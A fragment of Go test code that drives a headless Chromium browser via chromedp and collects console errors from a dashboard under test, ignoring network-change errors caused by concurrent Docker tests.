	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	// Other tests of the run create and remove Docker networks; Chromium
	// reports the host's interfaces changing under a load as an error
	// that says nothing about the dashboard.
	ignore = append(ignore, "net::ERR_NETWORK_CHANGED")
	b := &browser{ctx: ctx}
	go func() {
		for m, err := range chromedp.Console(ctx) {
			if err != nil {
				return
			}
			if slices.ContainsFunc(ignore, func(s string) bool { return strings.Contains(m.String(), s) }) {
				continue
			}
			if m.Type == chromedp.ConsoleError || m.Type == chromedp.ConsoleException {
				b.mu.Lock()
				b.errs = append(b.errs, m.String())
				b.mu.Unlock()
			}
		}
	}()
	return b
}

// consoleErrors returns the errors collected since the last call.
func (b *browser) consoleErrors() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	errs := b.errs
	b.errs = nil
	return errs
}
